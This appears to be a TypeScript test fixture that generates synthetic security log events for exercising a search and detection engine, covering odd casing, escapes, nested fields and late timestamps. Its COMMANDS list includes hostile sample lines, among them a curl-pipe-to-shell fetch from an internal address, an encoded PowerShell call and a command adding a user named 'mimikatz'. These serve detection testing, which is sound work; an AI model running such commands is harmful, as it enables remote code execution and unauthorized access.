// Events that make searching hard: casing, punctuation, non-ASCII, escapes, nested and repeated fields,
// numbers of every spelling, pivots that differ from fields of the same name, late and out-of-order times.

import type { Event } from '../../parsers/event.ts'
import { parseJsonText } from '../../parsers/json-text.ts'
import type { Fields, Pivots } from '../../sigma/event.ts'

/** A small deterministic generator of numbers in [0, 1). */
export function random(seed: number): () => number {
  let state = seed >>> 0
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return state / 2 ** 32
  }
}

const HOSTS = ['web-1', 'WEB-2', 'db_3', 'größe.example', 'ws-0042']
const USERS = ['alice', 'Bob', 'CORP\\alice', 'ΟΔΟΣ', 'οδος', "o'brien", '日本', 'a b']
const IMAGES = [
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\WINDOWS\\system32\\PowerShell.exe',
  '/usr/bin/python3.11',
  'C:\\Program Files (x86)\\App\\svchost_x.exe',
]
const COMMANDS = [
  'powershell -EncodedCommand SQBFAFgA',
  'cmd.exe /c "net user /add mimikatz"',
  'curl http://10.1.2.3:8080/a.sh | sh',
  'tab\there new\nline end',
  'nul\0inside',
  'STRASSE straße \u212Aelvin \u{1F600}',
  '100% *sure* a?b "quoted" \\back\\slash',
  '',
]
const SEVERITIES = ['informational', 'low', 'medium', 'high', 'critical']

type Make = (n: number, pick: <T>(values: readonly T[]) => T) => Partial<Event>

const json = (raw: string): Partial<Event> => ({
  fields: parseJsonText(raw) as Fields,
  raw,
  fieldsAreRaw: true,
})

const MAKERS: readonly Make[] = [
  (n, pick) => {
    const user = pick(USERS)
    const fields = {
      EventID: 4624 + (n % 3),
      Image: pick(IMAGES),
      CommandLine: pick(COMMANDS),
      user,
    }
    const pivots: Pivots = { host: pick(HOSTS), user, severity: pick(SEVERITIES) }
    return { ...json(JSON.stringify(fields)), pivots, message: `process ${n} by ${user}` }
  },
  (n, pick) => ({
    fields: { pid: n, action: pick(['accepted', 'Failed']), tags: ['a-1', 'b', `t${n % 5}`] },
    raw: `Nov 21 12:00:0${n % 10} ${pick(HOSTS)} sshd[${n}]: Failed password for ${pick(USERS)}`,
    message: 'Failed password',
    pivots: { host: pick(HOSTS), src_ip: `10.0.${n % 3}.${n % 200}`, src_port: 1024 + (n % 50) },
  }),
  (n, pick) => ({
    ...json(
      `{"a":{"b":[{"c":"${pick(['X1', 'y_2', 'z-3'])}"},{"c":${n % 4}}]},"host":"field-${n % 3}",` +
        `"caf\\u00e9":"\\u00c9t\\u00e9 ${n}","num":${pick(['1e3', '1.50', '-0', '12345678901234567890'])},` +
        `"esc":"line\\nfeed \\/slash\\/ \\"q\\"","empty":[],"nothing":null,"yes":true}`,
    ),
    pivots: { host: pick(HOSTS), url: `/index.php?id=${n % 9}`, severity: pick(SEVERITIES) },
    message: '',
  }),
  (n, pick) => ({
    fields: { 'a.b': 'dotted', a: { b: pick(['nested', 'Nested-2']) }, user: '' },
    raw: '',
    message: `dup ${pick(['one', 'TWO', 'three'])}`,
    pivots: n % 2 === 0 ? {} : { user: pick(USERS), dst_port: 443 },
  }),
  (n, pick) => ({
    ...json(
      `{"k":"${pick(['first', 'second'])}","k":"last","user":[],"list":[["deep",${n % 7}],"flat"]}`,
    ),
    message: 'repeated key',
    pivots: { user: pick(USERS), domain: pick(['evil.example', 'Good.Example']) },
  }),
  (n) => ({
    fields: { blob: `${'x'.repeat(300)}needle${n % 3}`, long: 'ab '.repeat(25_000) + 'tailword' },
    raw: 'long values',
    message: 'cut words',
    pivots: { hash: 'd41d8cd98f00b204e9800998ecf8427e' },
  }),
]

/** `count` events around `start`, milliseconds; some late by hours, some of the day before. */
export function makeEvents(count: number, start: number, seed: number): Event[] {
  const next = random(seed)
  const pick = <T>(values: readonly T[]): T => values[Math.floor(next() * values.length)]!
  return Array.from({ length: count }, (_, n) => {
    // The long ones are few: they are large.
    const maker = n % 211 === 5 ? MAKERS[5]! : pick(MAKERS.slice(0, 5))
    const late = next() < 0.1 ? Math.floor(next() * 30 * 3_600_000) : Math.floor(next() * 5000)
    return {
      id: '',
      time: start + n * 20 - late,
      ingested: start + n * 20,
      source: pick(['edge', 'Windows', 'app']),
      parser: 'json',
      logsource: {
        ...(next() < 0.5 ? { product: pick(['windows', 'linux']) } : {}),
        category: next() < 0.3 ? ['process_creation', 'webserver'] : [],
        service: next() < 0.3 ? ['sshd', 'auth'] : [],
        closed: false,
      },
      pivots: {},
      message: '',
      fields: {},
      raw: '',
      ...maker(n, pick),
    }
  })
}
